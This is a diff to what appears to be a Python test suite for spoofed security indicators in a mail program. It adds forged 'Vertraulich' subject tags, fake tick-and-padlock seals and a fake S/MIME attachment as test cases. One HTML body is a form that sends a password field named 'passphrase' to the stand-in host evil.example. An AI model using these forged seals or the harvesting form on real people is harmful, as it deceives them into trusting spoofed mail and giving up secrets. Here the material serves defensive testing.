@@ -4,7 +4,7 @@ from collections.abc import Iterator
 from functools import partial
 
 from tests.spoof.case import ENCRYPTED_UNVERIFIED, READER, Case, Family
-from tests.spoof.making import FORGED, html, mail, mailed, sealed, text, word
+from tests.spoof.making import FORGED, html, mail, mailed, parts, sealed, text, word
 
 HOST = "siegel.office.example"
 GREEN = "Vertraulich"
@@ -79,6 +79,9 @@ _SUBJECTS = [
     ("our tag with an invisible blank", "[Ver\u200btraulich] Anfrage"),
     ("our tag in itself", f"[Vertr{TAG}aulich] Anfrage"),
     ("our tag behind the subject", f"Anfrage {TAG}"),
+    ("our tag of an organisation's certificate",
+     f"[{GREEN}: Zertifikat der Organisation] Anfrage"),
+    ("a tick and a padlock", "✔ \U0001f512 Signatur geprüft: Anfrage"),
     ("our tag in bold mathematical letters", "[\U0001d415\U0001d41e\U0001d42b\U0001d42d\U0001d42b"
      "\U0001d41a\U0001d42e\U0001d425\U0001d422\U0001d41c\U0001d421] Anfrage"),
 ]  # fmt: skip
@@ -86,6 +89,25 @@ _SUBJECTS = [
 _BODIES = [
     ("a seal in the text", text("✔ Signatur geprüft: huber@school.example".encode())),
     ("a seal in HTML", html(b"<div style='background:green'>&#10004; Verified</div>")),
+    (
+        "a seal as a picture, and a file called like a signature",
+        parts(
+            "mixed",
+            html(b"<img src=cid:s alt='Signatur geprueft'>"),
+            b"Content-Type: image/png; name=smime.p7s\r\nContent-ID: <s>\r\n\r\n\x89PNG\r\n",
+        ),
+    ),
+    (
+        "a whole mail program as HTML",
+        html(
+            b"<div style='position:fixed;top:0;background:#fff'><b>Von:</b> huber@school.example"
+            b" <span title='S/MIME'>&#128274; Vertraulich</span></div>"
+        ),
+    ),
+    (
+        "a form that asks for the passphrase",
+        html(b"<form action=//evil.example><input type=password name=passphrase></form>"),
+    ),
     ("our words in the text", text(b"Vertraulich: Diese Nachricht ist sicher.")),
 ]
 
